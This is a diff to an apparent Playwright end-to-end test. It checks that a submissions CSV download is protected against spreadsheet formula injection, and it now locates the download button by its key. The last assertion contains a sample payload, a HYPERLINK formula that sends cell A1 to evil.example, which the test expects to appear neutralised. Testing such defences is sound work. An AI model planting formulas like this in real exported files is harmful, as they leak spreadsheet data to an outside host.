@@ -47,6 +47,10 @@ def test_downloads_are_formula_safe_and_follow_the_deidentified_view(
     page.get_by_role("combobox", name="Client").click()
     page.get_by_role("option", name="Client One · Ada Byron").click()
     expect(page.get_by_test_id("stText").first).to_have_text("Client One")
+    # The submissions table's own button, found by its key: it is drawn last, so "the last Download CSV" could still
+    # be the current homework's while the page is being drawn.
+    download = page.locator(".st-key-client_submissions_download").get_by_role("button", name="Download CSV")
+    expect(download).to_be_visible()
     submissions = page.get_by_test_id("stDataFrame").last
     submissions.scroll_into_view_if_needed()
     submissions.hover()
@@ -54,7 +58,7 @@ def test_downloads_are_formula_safe_and_follow_the_deidentified_view(
     expect(toolbar.get_by_role("button", name="Search")).to_be_visible()  # the toolbar is there...
     expect(toolbar.get_by_role("button", name="Download as CSV")).to_have_count(0)  # ...without its download
     with page.expect_download() as caught:
-        page.get_by_role("button", name="Download CSV").last.click()
+        download.click()
     data = Path(caught.value.path()).read_bytes().decode("utf-8-sig")
     assert caught.value.suggested_filename == "submissions-C1.csv"
     assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in data
